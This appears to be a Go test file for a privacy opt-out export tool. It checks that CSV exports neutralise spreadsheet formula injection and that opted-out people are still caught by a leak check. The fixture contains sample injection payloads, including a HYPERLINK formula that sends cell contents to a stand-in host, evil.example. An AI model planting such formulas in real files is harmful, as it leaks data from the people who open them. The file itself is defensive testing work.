package cli

import (
	"database/sql"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/optout-dev/optout/transforms"
)

// csvGuardFixture: alice (UK phone) and carol (US phone) opted out, bob
// not; the export maps the phone alone, so a guarded phone is the only
// way the leak check can recognise a person. Notes begin with each of the
// formula characters.
func csvGuardFixture(t *testing.T, extra string) string {
	return fixture(t, `
engine: duckdb
timezone: UTC
output: out
inputs:
  requests: [{name: web, path: inputs/requests.parquet}]
  customers: {path: inputs/customers.parquet}
exports:
  - {name: list, path: inputs/list.parquet, category: marketing_partners, identifiers: {phone: phone}, format: csv}
`+extra, map[string]string{
		"customers": `SELECT *, NULL::VARCHAR AS email FROM (VALUES ('C1', '+44 7700 900123'), ('C2', '(415) 555-0199'), ('C3', '(415) 555-0123')) t(customer_id, phone)`,
		"requests": `SELECT * FROM (VALUES ('r1', 'C1'), ('r2', 'C2')) t(request_id, customer_id),
			(SELECT TIMESTAMP '2026-11-01 10:00:00' AS received_at, 'opt_out' AS request_type, 'verified' AS status)`,
		"list": `SELECT * FROM (VALUES
			('+447700900123', 'alice', '=1+1', 1),
			('+14155550199', 'carol', '+1', 2),
			('+14155550123', '=HYPERLINK("http://evil.example/?"&A1,"Bob")', '-1', -5),
			('+14155550123', 'bob', '@SUM(A1)', 0),
			('+14155550123', 'bob', chr(9) || 'tab', 0),
			('+14155550123', 'bob', chr(13) || 'cr', 0),
			('+14155550123', 'bob', '''=quoted', 0),
			('+14155550123', 'bob', 'plain', 0)) t(phone, name, note, amount)`,
	})
}

// A CSV export's text cells that begin with = + - @ tab or CR are written
// with a leading apostrophe, the phone column's too; a number is not, nor
// a cell that already begins with an apostrophe. csv_formula_guard: false
// and Parquet exports write the cells as they came.
func TestCSVFormulaGuard(t *testing.T) {
	cfg := csvGuardFixture(t, `
  - {name: raw, path: inputs/list.parquet, category: marketing_partners, identifiers: {phone: phone}, format: csv, csv_formula_guard: false}
  - {name: pq, path: inputs/list.parquet, category: marketing_partners, identifiers: {phone: phone}}
`)
	if code, _, se := run(t, "run", "--config", cfg, "--date", "2026-11-21", "--now", "2026-11-22T09:00:00Z"); code != 0 {
		t.Fatalf("exit %d\n%s", code, se)
	}
	out := filepath.Join(filepath.Dir(cfg), "out", "exports")
	kept := [][]string{
		{"+14155550123", `=HYPERLINK("http://evil.example/?"&A1,"Bob")`, "-1", "-5"},
		{"+14155550123", "bob", "@SUM(A1)", "0"},
		{"+14155550123", "bob", "\ttab", "0"},
		{"+14155550123", "bob", "\rcr", "0"},
		{"+14155550123", "bob", "'=quoted", "0"},
		{"+14155550123", "bob", "plain", "0"},
	}
	guarded := [][]string{
		{"'+14155550123", `'=HYPERLINK("http://evil.example/?"&A1,"Bob")`, "'-1", "-5"},
		{"'+14155550123", "bob", "'@SUM(A1)", "0"},
		{"'+14155550123", "bob", "'\ttab", "0"},
		{"'+14155550123", "bob", "'\rcr", "0"},
		{"'+14155550123", "bob", "'=quoted", "0"},
		{"'+14155550123", "bob", "plain", "0"},
	}
	// The Go reference gives the same cells.
	for i, row := range kept {
		for j := range 3 {
			if g := transforms.GuardCell(row[j]); g != guarded[i][j] {
				t.Errorf("GuardCell(%q) = %q, want %q", row[j], g, guarded[i][j])
			}
		}
	}
	for _, c := range []struct {
		export string
		want   [][]string
	}{{"list", guarded}, {"raw", kept}} {
		got := readCSV(t, filepath.Join(out, c.export, "dt=2026-11-21", "part-0.csv"))
		if !slices.Equal(got[0], []string{"phone", "name", "note", "amount"}) {
			t.Errorf("%s header %q", c.export, got[0])
		}
		rows := got[1:]
		want := slices.Clone(c.want)
		sortRows(rows)
		sortRows(want)
		if fmt.Sprintf("%q", rows) != fmt.Sprintf("%q", want) {
			t.Errorf("%s:\n got %q\nwant %q", c.export, rows, want)
		}
	}
	db, err := sql.Open("duckdb", "")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var notes []string
	rows, err := db.Query(fmt.Sprintf("SELECT note FROM read_parquet('%s') ORDER BY note", filepath.Join(out, "pq", "dt=2026-11-21", "part-0.parquet")))
	if err != nil {
		t.Fatal(err)
	}
	for rows.Next() {
		var n string
		if err := rows.Scan(&n); err != nil {
			t.Fatal(err)
		}
		notes = append(notes, n)
	}
	rows.Close()
	if want := []string{"\ttab", "\rcr", "'=quoted", "-1", "@SUM(A1)", "plain"}; !slices.Equal(notes, want) {
		t.Errorf("parquet notes %q, want %q", notes, want)
	}
}

// A planted leak is found through guarded phones: alice's '+447700900123
// has no phone key as written (12 digits without a +), carol's
// '+14155550199 has one either way and counts once.
func TestPlantedLeakFoundThroughGuardedCells(t *testing.T) {
	cfg := csvGuardFixture(t, "")
	args := []string{"run", "--config", cfg, "--date", "2026-11-21", "--now", "2026-11-22T09:00:00Z"}
	if code, _, se := run(t, args...); code != 0 {
		t.Fatalf("exit %d\n%s", code, se)
	}
	t.Setenv("OPTOUT_TEST_PLANT_LEAK", "list")
	code, _, se := run(t, args...)
	if code != 1 || !strings.Contains(se, "leak check failed for export list: 2 written rows") {
		t.Fatalf("planted leak: exit %d, want 1 and 2 written rows\n%s", code, se)
	}
}
